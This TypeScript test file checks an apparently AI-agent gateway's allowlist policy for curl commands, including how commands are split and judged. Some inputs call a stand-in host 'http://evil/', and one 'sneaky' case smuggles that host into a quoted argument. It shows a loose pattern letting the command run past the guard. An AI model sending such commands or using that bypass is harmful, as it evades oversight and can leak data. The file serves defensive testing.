// The exec policy of the double agrees with what a real gateway did with the same commands.
import { expect, test } from "vitest";
import { effectivePolicy, judgeCommand, splitCommand } from "./policy.ts";
import { readCurl } from "./shell.ts";

const GUARDED = { main: { security: "allowlist", ask: "on-miss", askFallback: "deny", allowlist: [{ pattern: "curl", argPattern: "^-sS http://mc/" }] } };

test.each([
  ["curl -sS http://mc/a", "run"],
  ["curl -sS 'http://mc/a?x=1'", "run"],
  ["T=1; curl -sS http://mc/a", "run"],
  ["curl -sS http://mc/a?x=1", "ask"],
  ["curl http://evil/", "ask"],
  ["/usr/bin/curl -sS http://mc/a", "ask"],
  ["curl -sS http://mc/a | cat", "ask"],
  ["curl -sS http://mc/a && echo done", "ask"],
  ["curl -sS http://mc/a > file", "deny"],
  ['curl -sS "http://mc/$X"', "deny"],
] as const)("under an allowlist %s leads to %s", (command, verdict) => {
  expect(judgeCommand(command, effectivePolicy({ agents: GUARDED }, "main")).kind).toBe(verdict);
});

test("a NUL in an argument pattern makes the borders between arguments matter", () => {
  const policy = (argPattern: string) => effectivePolicy({ agents: { main: { ...GUARDED.main, allowlist: [{ pattern: "curl", argPattern }] } } }, "main");
  const sneaky = "curl -d '{} http://evil/' http://mc/";
  expect(judgeCommand("curl -d '{} x' http://mc/", policy("^-d\0\\{[^\0]*\0http://mc/\0$")).kind).toBe("run");
  expect(judgeCommand("curl -d {} http://evil/ http://mc/", policy("^-d\0[^\0]*\0http://mc/\0$")).kind).toBe("ask");
  expect(judgeCommand(sneaky, policy("^-d .* http://mc/$")).kind).toBe("run");
});

test("a command is split as a shell would split it", () => {
  expect(splitCommand(`curl -H 'X-Agent-Token: a b' -d '{"m":"it is $5"}' "u"`)?.[0]?.argv).toEqual([
    "curl",
    "-H",
    "X-Agent-Token: a b",
    "-d",
    '{"m":"it is $5"}',
    "u",
  ]);
  expect(readCurl(["-sS", "-X", "PATCH", "-H", "A: b", "-d", "{}", "http://x/"])).toEqual({
    url: "http://x/",
    method: "PATCH",
    headers: [["A", "b"]],
    body: "{}",
  });
});
